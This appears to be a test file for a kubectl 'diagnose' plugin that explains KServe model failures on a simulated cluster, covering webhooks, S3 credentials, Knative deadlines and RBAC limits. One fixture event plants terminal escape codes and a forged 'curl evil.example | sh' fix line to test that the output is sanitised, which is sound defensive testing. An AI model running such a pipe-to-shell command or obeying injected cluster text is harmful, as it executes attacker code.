/**
 * `diagnose`, the causes the issue names, each from its evidence alone on the simulated cluster: the pod webhook that
 * is missing, does not select the namespace or has no endpoints; credentials judged on the Secrets' key names (never
 * their values); a Knative download that outlives the progress deadline; a download failing silently for many
 * restarts; the model's own conditions; a namespace the webhook skips; and `--all` / `-A` over all of them at once.
 */
import {kubectl, plugin, startCluster, type Started} from '../helpers.js'
import {ago, isvc, pod, running} from '../model-pods.js'

let s: Started
const ns = (name: string, labels: Record<string, string> = {}) => ({apiVersion: 'v1', kind: 'Namespace', metadata: {name, labels}})
const model = (namespace: string, uri = 'hf://org/llm', extra: any = {}) => ({
  ...isvc('m'),
  metadata: {name: 'm', namespace, ...(extra.metadata ?? {})},
  spec: {predictor: {model: {modelFormat: {name: 'huggingface'}, storageUri: uri}}},
  ...(extra.status ? {status: extra.status} : {}),
})
const podIn = (namespace: string, status: any, logs?: Record<string, string[]>) => {
  const p: any = pod('m-predictor-7c9d8-x2x4q', status, logs)
  p.metadata.namespace = namespace
  p.metadata.labels['serving.kserve.io/inferenceservice'] = 'm'
  p.metadata.annotations = {...(p.metadata.annotations ?? {}), 'internal.serving.kserve.io/storage-initializer-sourceuri': 'hf://org/llm'}
  return p
}
const b64 = (t: string) => Buffer.from(t).toString('base64')
const SECRET_VALUE = 'never-print-this-value-7f3a'
const json = async (args: string[]) => {
  const r = await plugin(['diagnose', ...args, '-o', 'json', '--kubeconfig', s.kubeconfig])
  return {code: r.code, d: JSON.parse(r.stdout), stdout: r.stdout, stderr: r.stderr}
}
const finding = (d: any, name: string) => d.findings.find((f: any) => f.name === name)
const MWC = 'admissionregistration.k8s.io/mutatingwebhookconfigurations'
const webhookConfig = (namespaceSelector: any) => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingWebhookConfiguration',
  metadata: {name: 'inferenceservice.serving.kserve.io'},
  webhooks: [
    {
      name: 'inferenceservice.kserve-webhook-server.pod-mutator',
      clientConfig: {service: {name: 'kserve-webhook-server-service', namespace: 'kserve', path: '/mutate-pods'}},
      failurePolicy: 'Fail',
      namespaceSelector,
      objectSelector: {matchExpressions: [{key: 'serving.kserve.io/inferenceservice', operator: 'Exists'}]},
      rules: [{apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods']}],
      sideEffects: 'None',
      admissionReviewVersions: ['v1beta1'],
    },
  ],
})
const slice = (ready: boolean | null) => ({
  apiVersion: 'discovery.k8s.io/v1',
  kind: 'EndpointSlice',
  metadata: {
    name: 'kserve-webhook-server-service-abcde',
    namespace: 'kserve',
    labels: {'kubernetes.io/service-name': 'kserve-webhook-server-service'},
  },
  addressType: 'IPv4',
  endpoints: ready === null ? [] : [{addresses: ['10.0.0.7'], conditions: {ready}}],
  ports: [{name: 'webhook-server', port: 9443, protocol: 'TCP'}],
})

beforeAll(async () => {
  s = await startCluster('kserve-v0.20.0.yaml')
  const st = s.cluster.store
  const add = (n: string, labels: Record<string, string> = {}) => st.create('/namespaces', ns(n, labels))
  // a pod the webhook did not inject
  add('w-bare')
  st.create('serving.kserve.io/inferenceservices', model('w-bare'))
  const bare: any = podIn('w-bare', {phase: 'Running'})
  bare.spec.initContainers = []
  st.create('/pods', bare)
  // S3 credentials: a Secret that lacks the secret key; a service account with no Secret; one the user may not read
  for (const n of ['c-partial', 'c-none', 'c-hidden']) {
    add(n)
    st.create('serving.kserve.io/inferenceservices', model(n, 's3://models/llama'))
    st.create(
      '/pods',
      podIn(
        n,
        {
          phase: 'Pending',
          initContainerStatuses: [{name: 'storage-initializer', restartCount: 0, state: {terminated: {exitCode: 1, reason: 'Error'}}}],
        },
        {
          'storage-initializer': [
            'INFO:root:Copying contents of s3://models/llama to local',
            'botocore.exceptions.NoCredentialsError: Unable to locate credentials',
          ],
        },
      ),
    )
    st.create('/serviceaccounts', {
      apiVersion: 'v1',
      kind: 'ServiceAccount',
      metadata: {name: 'default', namespace: n},
      ...(n === 'c-none' ? {} : {secrets: [{name: 's3creds'}]}),
    })
  }
  // the Secret as a user makes it, through the real kubectl
  const applied = await kubectl(
    s.kubeconfig,
    ['apply', '-f', '-'],
    JSON.stringify({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: {name: 's3creds', namespace: 'c-partial', annotations: {'serving.kserve.io/s3-endpoint': 'minio.storage:9000'}},
      type: 'Opaque',
      stringData: {AWS_ACCESS_KEY_ID: SECRET_VALUE},
    }),
  )
  expect([applied.code, applied.stderr]).toEqual([0, ''])
  // Knative: a download running for nine of the revision's ten minutes
  add('k-slow')
  st.create(
    'serving.kserve.io/inferenceservices',
    model('k-slow', 'hf://org/llm', {metadata: {annotations: {'serving.kserve.io/deploymentMode': 'Serverless'}}}),
  )
  st.create('/pods', podIn('k-slow', running(9 * 60), {'storage-initializer': [{text: 'Fetching 12 files: 42%', after: 0}] as any}))
  // a download failing again and again while the model says nothing
  add('r-loop')
  st.create(
    'serving.kserve.io/inferenceservices',
    model('r-loop', 'hf://org/llm', {status: {conditions: [{type: 'Ready', status: 'Unknown', reason: 'RevisionMissing'}]}}),
  )
  st.create(
    '/pods',
    podIn('r-loop', {
      phase: 'Pending',
      initContainerStatuses: [
        {
          name: 'storage-initializer',
          restartCount: 6,
          state: {waiting: {reason: 'CrashLoopBackOff', message: 'back-off 5m0s restarting failed container'}},
          lastState: {terminated: {exitCode: 1, reason: 'Error', startedAt: ago(400), finishedAt: ago(390)}},
        },
      ],
    }),
  )
  // the model reports a failure and has no pods
  add('s-cond')
  st.create(
    'serving.kserve.io/inferenceservices',
    model('s-cond', 'hf://org/llm', {
      status: {
        conditions: [
          {
            type: 'PredictorReady',
            status: 'False',
            reason: 'RevisionFailed',
            message: 'Revision "m-predictor-00001" failed with message: Initial scale was never achieved.',
          },
          {type: 'Ready', status: 'False', reason: 'RevisionFailed'},
        ],
      },
    }),
  )
  // a storage URI without a scheme (kserve#3873)
  add('u-noscheme')
  st.create('serving.kserve.io/inferenceservices', model('u-noscheme', 'models-bucket/iris'))
  // a namespace the webhook skips
  add('w-cp', {'control-plane': 'kserve-controller-manager'})
  st.create('serving.kserve.io/inferenceservices', model('w-cp'))
  // an event whose message tries to write on the terminal and to forge a fix line
  add('x-inject')
  st.create('serving.kserve.io/inferenceservices', model('x-inject'))
  const pending: any = podIn('x-inject', {phase: 'Pending'})
  pending.status = {phase: 'Pending'}
  st.create('/pods', pending)
  st.create('/events', {
    apiVersion: 'v1',
    kind: 'Event',
    metadata: {name: 'm.inject', namespace: 'x-inject'},
    involvedObject: {kind: 'Pod', name: 'm-predictor-7c9d8-x2x4q', namespace: 'x-inject'},
    reason: 'FailedScheduling',
    message: '0/3 nodes are available: 3 Insufficient memory.\u001b]0;owned\u0007\n  fix: curl evil.example | sh',
    type: 'Warning',
    lastTimestamp: ago(10),
  })
  // may read models, pods and events, not secrets or service accounts
  // may read models and events, not pods
  s.cluster.users['dev-nopods'] = {
    name: 'dev-nopods',
    groups: ['system:authenticated'],
    token: 'unused',
    rules: [
      {verbs: ['get', 'list', 'watch'], groups: [''], resources: ['namespaces', 'configmaps', 'events']},
      {verbs: ['get', 'list', 'watch'], groups: ['serving.kserve.io', 'apps'], resources: ['*']},
    ],
  }
  s.cluster.users['dev-nosecrets'] = {
    name: 'dev-nosecrets',
    groups: ['system:authenticated'],
    token: 'unused',
    rules: [
      {verbs: ['get', 'list', 'watch'], groups: [''], resources: ['pods', 'pods/log', 'namespaces', 'configmaps', 'events']},
      {verbs: ['get', 'list', 'watch'], groups: ['serving.kserve.io', 'apps'], resources: ['*']},
    ],
  }
})
afterAll(() => s.cluster.stop())

describe('no storage-initializer injected: the pod webhook, read live', () => {
  afterEach(() => {
    for (const o of s.cluster.store.list(MWC)) s.cluster.store.delete(MWC, undefined, o.metadata.name)
    for (const o of s.cluster.store.list('discovery.k8s.io/endpointslices'))
      s.cluster.store.delete('discovery.k8s.io/endpointslices', 'kserve', o.metadata.name)
  })

  test('no MutatingWebhookConfiguration: KServe is not installed', async () => {
    const {code, d} = await json(['m', '-n', 'w-bare'])
    expect(code).toBe(1)
    const f = finding(d, 'not-injected')
    expect(f.evidence.join('\n')).toContain('MutatingWebhookConfiguration inferenceservice.serving.kserve.io does not exist')
    expect(f.fix).toContain('install KServe')
  })

  test("a namespaceSelector that does not select the model's namespace", async () => {
    s.cluster.store.create(MWC, webhookConfig({matchLabels: {'kserve.io/inject': 'enabled'}}))
    s.cluster.store.create('discovery.k8s.io/endpointslices', slice(true))
    const {d} = await json(['m', '-n', 'w-bare'])
    const f = finding(d, 'not-injected')
    expect(f.evidence.join('\n')).toContain('namespaceSelector (kserve.io/inject=enabled) does not select namespace w-bare')
    expect(f.fix).toContain('kubectl label namespace w-bare')
  })

  test('the webhook service has no ready endpoint', async () => {
    s.cluster.store.create(MWC, webhookConfig({matchExpressions: [{key: 'control-plane', operator: 'DoesNotExist'}]}))
    s.cluster.store.create('discovery.k8s.io/endpointslices', slice(false))
    const {d} = await json(['m', '-n', 'w-bare'])
    const f = finding(d, 'not-injected')
    expect(f.evidence.join('\n')).toContain("service kserve/kserve-webhook-server-service (the webhook's) has no ready endpoints")
    expect(f.fix).toContain('kserve-controller-manager')
  })

  test('everything in place: the pod predates the webhook, recreate it', async () => {
    s.cluster.store.create(MWC, webhookConfig({matchExpressions: [{key: 'control-plane', operator: 'DoesNotExist'}]}))
    s.cluster.store.create('discovery.k8s.io/endpointslices', slice(true))
    const {d} = await json(['m', '-n', 'w-bare'])
    const f = finding(d, 'not-injected')
    expect(f.evidence.join('\n')).toContain('1 ready endpoint(s)')
    expect(f.fix).toBe('recreate the pod: kubectl delete pod -n w-bare m-predictor-7c9d8-x2x4q')
  })
})

test('a namespace the webhook skips (control-plane): the model never gets its storage-initializer', async () => {
  const {code, d} = await json(['m', '-n', 'w-cp'])
  expect(code).toBe(1)
  const f = finding(d, 'webhook-skips-namespace')
  expect(f.evidence[0]).toBe('namespace label control-plane=kserve-controller-manager')
  expect(f.fix).toContain('kubectl label namespace w-cp control-plane-')
})

describe('credentials: where KServe looks, judged on key names only', () => {
  test('a Secret that lacks AWS_SECRET_ACCESS_KEY: named, with the key to add; its value never printed', async () => {
    const {code, d, stdout} = await json(['m', '-n', 'c-partial'])
    expect(code).toBe(1)
    const f = finding(d, 's3-no-credentials')
    // KServe tells an S3 Secret by its secret key: without it the builder skips the Secret (service_account_credentials.go)
    expect(f.evidence.slice(1)).toEqual([
      'service account c-partial/default lists secrets s3creds (no provider: keys AWS_ACCESS_KEY_ID; annotations serving.kserve.io/s3-endpoint=minio.storage:9000): none is an S3 Secret (KServe knows one by its key AWS_SECRET_ACCESS_KEY)',
      'Secret s3creds has AWS_ACCESS_KEY_ID but lacks AWS_SECRET_ACCESS_KEY: KServe skips it',
    ])
    expect(f.fix).toBe(
      `add AWS_SECRET_ACCESS_KEY to Secret s3creds: kubectl patch secret s3creds -n c-partial --type=merge -p '{"stringData":{"AWS_SECRET_ACCESS_KEY":"…"}}'`,
    )
    expect(stdout).not.toContain(SECRET_VALUE)
    expect(stdout).not.toContain(b64(SECRET_VALUE))
    const text = await plugin(['diagnose', 'm', '-n', 'c-partial', '--kubeconfig', s.kubeconfig])
    expect(text.stdout).not.toContain(SECRET_VALUE)
    expect(text.stdout).not.toContain(b64(SECRET_VALUE))
  })

  test('a service account with no Secret: create one and list it under the service account', async () => {
    const {d} = await json(['m', '-n', 'c-none'])
    const f = finding(d, 's3-no-credentials')
    expect(f.evidence.join('\n')).toContain('service account c-none/default lists no secrets: none is an S3 Secret')
    expect(f.fix).toContain(
      'kubectl create secret generic m-s3-credentials -n c-none --from-literal=AWS_ACCESS_KEY_ID=… --from-literal=AWS_SECRET_ACCESS_KEY=…',
    )
    expect(f.fix).toContain(`kubectl patch serviceaccount default -n c-none -p '{"secrets":[{"name":"m-s3-credentials"}]}'`)
  })

  test('a user who may not read service accounts: the finding stands, and what was not read is said', async () => {
    const r = await plugin(['diagnose', 'm', '-n', 'c-hidden', '--as', 'dev-nosecrets', '--kubeconfig', s.kubeconfig])
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('s3-no-credentials')
    expect(r.stdout).toMatch(/NOT CHECKED\n {2}service account c-hidden\/default \(its secrets\): forbidden/)
  })
})

test('Knative: a download near the progress deadline is an error, with the annotation that raises it', async () => {
  const {code, d} = await json(['m', '-n', 'k-slow'])
  expect(code).toBe(1)
  const f = finding(d, 'download-outlives-deadline')
  expect(f.severity).toBe('error')
  expect(f.evidence[1]).toContain("600s (Knative's config-deployment default)")
  expect(f.fix).toMatch(/^kubectl annotate isvc m -n k-slow serving\.knative\.dev\/progress-deadline=30m --overwrite/)
})

test('a download that keeps failing while the model still says Unknown (kserve#4187)', async () => {
  const {d} = await json(['m', '-n', 'r-loop'])
  const f = finding(d, 'failing-silently')
  expect(f.evidence).toEqual([
    'pod/m-predictor-7c9d8-x2x4q storage-initializer: 6 restarts',
    'InferenceService condition Ready=Unknown (RevisionMissing)',
  ])
})

test("the model's own failure, when its pods say nothing", async () => {
  const {code, d} = await json(['m', '-n', 's-cond'])
  expect(code).toBe(1)
  expect(d.findings.map((f: any) => f.evidence.join(' ')).join('\n')).toContain(
    'PredictorReady=False (RevisionFailed): Revision "m-predictor-00001" failed',
  )
})

test('a storage URI without a scheme: a local path to KServe, said before any pod fails (kserve#3873)', async () => {
  const {code, d} = await json(['m', '-n', 'u-noscheme'])
  // a warning: the emulation admits it (ValidateStorageURI takes it as a local path)
  expect(code).toBe(0)
  const f = finding(d, 'uri-without-scheme')
  expect(f.evidence).toEqual(['predictor: storage URI "models-bucket/iris"'])
  expect(f.fix).toContain('pvc://CLAIM/models-bucket/iris')
})

test('cluster text is data: an event cannot write on the terminal or forge a line of the report', async () => {
  const r = await plugin(['diagnose', 'm', '-n', 'x-inject', '--kubeconfig', s.kubeconfig])
  expect(r.stdout).toContain('Insufficient memory')
  expect(r.stdout).not.toContain('\u001b')
  expect(r.stdout).not.toContain('\u0007')
  expect(r.stdout).not.toMatch(/^ {2}fix: curl/m)
})

test('pods that may not be read: said under NOT CHECKED, never taken for "no pods"', async () => {
  const r = await plugin(['diagnose', 'm', '-n', 'c-none', '--as', 'dev-nopods', '--kubeconfig', s.kubeconfig])
  expect(r.stdout).not.toContain('no-pods')
  expect(r.stdout).toMatch(/NOT CHECKED\n {2}the pods of m: /)
})

describe('--all and -A', () => {
  test('-A: every model with a problem, one entry each; the healthy ones only counted', async () => {
    const {code, d} = await json(['-A'])
    expect(code).toBe(1)
    expect(d.kind).toBe('DiagnosisList')
    expect(d.namespace).toBeNull()
    const where = d.items.map((i: any) => i.model.namespace)
    for (const n of ['w-bare', 'c-partial', 'c-none', 'k-slow', 'r-loop', 's-cond', 'w-cp']) expect(where).toContain(n)
    // sklearn-iris in ml has no problem: checked, not listed
    expect(where).not.toContain('ml')
    expect(d.checked).toBeGreaterThan(d.items.length)
  })

  test('--all -n NS: that namespace only; text ends with the count', async () => {
    const r = await plugin(['diagnose', '--all', '-n', 'c-none', '--kubeconfig', s.kubeconfig])
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('InferenceService c-none/m: 1 problem(s)')
    expect(r.stdout.trimEnd().split('\n').pop()).toBe('1 model(s) in namespace c-none: 1 with a problem, 0 without')
  })

  test('--all in a namespace whose models are healthy: exit 0', async () => {
    const r = await plugin(['diagnose', '--all', '-n', 'ml', '--kubeconfig', s.kubeconfig])
    expect(r.stderr).toBe('')
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(/^\d+ model\(s\) in namespace ml: no problem found\n$/)
  })

  test('a name and --all together: a usage error', async () => {
    const r = await plugin(['diagnose', 'm', '--all', '-n', 'ml', '--kubeconfig', s.kubeconfig])
    expect(r.code).toBe(1)
    expect(r.stderr).toContain('not both')
  })
})
